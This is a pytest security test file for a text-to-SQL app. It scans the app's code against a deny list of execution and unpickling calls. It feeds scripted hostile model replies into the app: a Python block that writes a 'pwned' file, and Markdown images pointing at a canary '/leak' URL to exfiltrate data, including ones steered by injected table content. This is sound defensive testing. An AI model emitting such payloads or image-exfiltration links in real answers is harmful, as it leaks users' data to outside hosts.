"""Nothing the model writes is executed, except SQL that passed the guard.

Peers were broken exactly here: Vanna ran model-written Plotly code (CVE-2024-5565),
PandasAI ran model-written pandas code (CVE-2024-12366), LangChain's SQL chain ran whatever
statement the model wrote (CVE-2023-36189). Tabletalk's charts are a declarative spec chosen
from the result's shape, and the only text that reaches an interpreter is guarded SQL.
"""

from __future__ import annotations

import ast
import re
from dataclasses import replace
from pathlib import Path

import pytest

from core.ask import ask
from core.charts import KINDS
from tests.fakellm import Reply
from tests.security.attack import messages_text, result_text
from tests.security.world import World, snapshot_changes

REPO = Path(__file__).resolve().parents[2]
SOURCES = [REPO / "app.py"] + sorted(
    path for folder in ("core", "ui", "views") for path in (REPO / folder).rglob("*.py")
)

FORBIDDEN_CALLS = {"eval", "exec", "compile", "__import__", "execfile", "breakpoint"}
FORBIDDEN_MODULES = {
    "pickle", "marshal", "shelve", "dill", "cloudpickle", "subprocess", "runpy", "code",
    "codeop", "importlib", "ctypes", "pty",
}  # fmt: skip
FORBIDDEN_ATTRIBUTES = {
    ("os", "system"), ("os", "popen"), ("os", "execv"), ("os", "execvp"), ("os", "spawnv"),
    ("pio", "from_json"), ("plotly.io", "from_json"), ("yaml", "load"), ("yaml", "unsafe_load"),
}  # fmt: skip


# The query worker pool starts its own workers and passes results between our two processes;
# the app side loads them with a restricted unpickler (tests/integration/test_query_pool.py
# proves a reply that would run code is refused). Nothing the model writes reaches either.
ALLOWED_IMPORTS = {
    ("query_pool.py", "subprocess"),
    ("query_pool.py", "pickle"),
    ("query_worker.py", "pickle"),
}


def _violations(path: Path) -> list[str]:
    tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
    found = []
    for node in ast.walk(tree):
        where = f"{path.name}:{getattr(node, 'lineno', 0)}"
        called = node.func if isinstance(node, ast.Call) else None
        if isinstance(called, ast.Name) and called.id in FORBIDDEN_CALLS:
            found.append(f"{where} calls {called.id}()")
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            owner = ast.unparse(node.func.value)
            if (owner, node.func.attr) in FORBIDDEN_ATTRIBUTES:
                found.append(f"{where} calls {owner}.{node.func.attr}()")
        if isinstance(node, ast.Import | ast.ImportFrom):
            names = [a.name for a in node.names] if isinstance(node, ast.Import) else []
            names += [node.module or ""] if isinstance(node, ast.ImportFrom) else []
            for name in names:
                allowed = (path.name, name) in ALLOWED_IMPORTS and path.parent.name == "core"
                if name.split(".")[0] in FORBIDDEN_MODULES and not allowed:
                    found.append(f"{where} imports {name}")
    return found


def test_the_scan_sees_every_kind_of_code_execution(tmp_path: Path):
    assert REPO / "core" / "ask.py" in SOURCES and REPO / "ui" / "answer.py" in SOURCES
    sample = tmp_path / "sample.py"
    sample.write_text(
        "import pickle\nfrom subprocess import run\neval(x)\nos.system('x')\n", encoding="utf-8"
    )
    assert len(_violations(sample)) == 4


@pytest.mark.parametrize("path", SOURCES, ids=lambda p: str(p.relative_to(REPO)))
def test_app_code_never_executes_or_unpickles_anything(path: Path):
    assert _violations(path) == []


CODE_REPLY = """Here is the revenue by region, and a chart.
```python
import pathlib; pathlib.Path({marker!r}).write_text("pwned")
fig = px.bar(df, x="region", y="revenue")
```
```sql
SELECT region, sum(revenue) AS revenue FROM sales GROUP BY region
```
"""


def test_code_in_the_models_reply_is_never_run_and_the_chart_is_a_spec(world: World):
    marker = world.root / "out" / "pwned.txt"
    world.model.fake.script(CODE_REPLY.format(marker=str(marker)), "North leads on revenue.")
    files = world.files()
    result = ask(world.session, world.settings, world.alice, world.chat_id, "revenue by region")
    assert result.success and result.result_count == 4
    assert not marker.exists() and snapshot_changes(files, world.files()) == []
    assert set(result.chart) == {"kind", "x", "y", "title"}
    assert result.chart["kind"] in KINDS
    assert result.chart["x"] in (None, *result.columns) and result.chart["y"] in result.columns
    assert "pathlib" not in result_text(result).replace(result.sql_query or "", "")


# Text the model writes is drawn as Markdown: an image in it is fetched by the browser of
# whoever opens the answer, with whatever the model (or a cell that steered it) put in the URL.
# The model (or its server) writes four texts a page draws: the answer sentence, the line
# saying how it read the question ("Understood as: ..."), its reason when it declines, and the
# server's own words in an error it returns.
SQL_REPLY = "```sql\nSELECT region, sum(revenue) AS revenue FROM sales GROUP BY region\n```"
IMAGE = "![chart]({url}/leak?d=North-7225)"
EXFILTRATIONS = {
    "sentence-inline-image": (SQL_REPLY, "North leads. " + IMAGE),
    "sentence-reference-image": (SQL_REPLY, "North leads. ![chart][1]\n\n[1]: {url}/leak?d=N"),
    "understanding": (f"Revenue per region, as on {IMAGE}.\n{SQL_REPLY}", "North leads."),
    "refusal": (f"I cannot answer that from these tables {IMAGE} sorry.",),
    "server-error": (Reply.error(400, f"Your request was flagged {IMAGE}."),),
}


def _with_url(reply: str | Reply, url: str) -> str | Reply:
    if isinstance(reply, Reply):
        return replace(reply, message=(reply.message or "").format(url=url))
    return reply.format(url=url)


@pytest.mark.parametrize("replies", list(EXFILTRATIONS.values()), ids=list(EXFILTRATIONS))
def test_text_the_model_writes_carries_no_url_for_the_browser_to_fetch(world: World, replies):
    world.model.fake.script(*(_with_url(r, world.canary.url) for r in replies))
    before = len(world.messages())
    result = ask(world.session, world.settings, world.alice, world.chat_id, "revenue by region")
    assert world.model.fake.pending == 0, "a scripted reply was not used"
    shown = result_text(result) + messages_text(world.messages()[before:])
    leak = re.search(r".{0,80}(" + re.escape(world.canary.url) + r"|!\[[^\]]*\]).{0,40}", shown)
    assert leak is None, f"a URL or an image reaches the page: ...{leak.group(0)}..."
